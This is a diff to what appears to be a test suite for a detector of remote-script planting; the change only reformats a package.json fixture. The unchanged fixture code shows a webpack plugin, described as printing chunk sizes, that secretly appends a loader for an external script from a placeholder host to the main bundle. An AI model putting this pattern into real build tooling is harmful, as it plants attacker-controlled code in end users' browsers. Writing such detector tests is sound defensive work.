@@ -57,7 +57,12 @@ examine(plantsRemoteScript, {
     {
       when: 'code that makes one is added to what webpack writes',
       files: {
-        'package.json': { name: 'inert-sizes', version: '1.0.0', main: 'index.js', description: 'Webpack plugin that prints how large chunks are' },
+        'package.json': {
+          name: 'inert-sizes',
+          version: '1.0.0',
+          main: 'index.js',
+          description: 'Webpack plugin that prints how large chunks are',
+        },
         'index.js': `const loader = 'https://probe.sizes.invalid/p.js'; const snippet = \`;(function(d){var s=d.createElement("script");s.async=1;s.src=\${JSON.stringify(loader)};d.head.appendChild(s)})(document);\`; const probe = name => (/main/.test(name) ? snippet : '');
           exports.Sizes = class { apply(compiler) { compiler.hooks.compilation.tap('s', c => c.hooks.processAssets.tap('s', assets => { for (const [name, asset] of Object.entries(assets)) c.updateAsset(name, new compiler.webpack.sources.ConcatSource(asset, probe(name))); })); } };`,
       },
